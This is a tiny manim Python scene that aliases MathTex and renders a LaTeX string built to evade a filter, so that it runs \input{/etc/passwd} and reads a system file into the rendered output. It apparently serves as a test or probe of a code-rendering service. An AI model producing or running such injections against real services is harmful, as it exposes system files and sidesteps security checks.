# gives MathTex another name
from manim import *


class GeneratedScene(Scene):
    def construct(self):
        M = MathTex
        self.add(M("\\" + "input{/etc/passwd}"))
        self.wait()
